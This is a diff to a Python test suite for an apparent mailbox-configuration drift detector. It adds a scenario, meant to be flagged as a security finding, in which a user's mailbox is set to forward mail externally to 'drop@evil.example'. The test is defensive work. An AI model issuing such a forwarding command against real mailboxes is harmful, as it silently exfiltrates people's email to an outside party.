@@ -23,6 +23,7 @@ from reconciler.drift.report import (
     CHANGED_OUTSIDE_GIT,
     NOT_YET_APPLIED,
     PENDING_PROPAGATION,
+    SECURITY_FINDING,
     UNMANAGED,
 )
 from tests.drift.conftest import LONDON, SUPPORT_YAML, DriftScenario
@@ -108,9 +109,16 @@ def _clean(s: DriftScenario) -> None:
     _applied(s, SUPPORT_YAML)
 
 
+def _forwarding(s: DriftScenario) -> None:
+    """An external forward set in the portal on a user mailbox the YAML does not declare."""
+    _applied(s, SUPPORT_YAML)
+    s.live("Set-Mailbox", Identity="alice@contoso.com",
+           ForwardingSmtpAddress="smtp:drop@evil.example")
+
+
 SCENARIOS: dict[str, Callable[[DriftScenario], None]] = {
     "mixed": _mixed, "pruned": _pruned, "moved": _moved, "no_record": _no_record,
-    "clean": _clean,
+    "clean": _clean, "forwarding": _forwarding,
 }
 
 
@@ -177,7 +185,7 @@ def test_the_reports_cover_every_class_action_and_record(
         (CHANGED_OUTSIDE_GIT, "update"), (CHANGED_OUTSIDE_GIT, "create"),
         (NOT_YET_APPLIED, "update"), (NOT_YET_APPLIED, "create"), (NOT_YET_APPLIED, "move"),
         (NOT_YET_APPLIED, "delete"), (PENDING_PROPAGATION, "update"),
-        (UNMANAGED, "unmanaged"), (UNMANAGED, "delete")}
+        (UNMANAGED, "unmanaged"), (UNMANAGED, "delete"), (SECURITY_FINDING, "update")}
     assert all(any(key in i for i in items) for key in ("moved_from", "notes", "source"))
     records = [rec for r in reports.by_scenario.values() for rec in r["records"]]
     assert {rec["commit"] is None for rec in records} == {True, False}
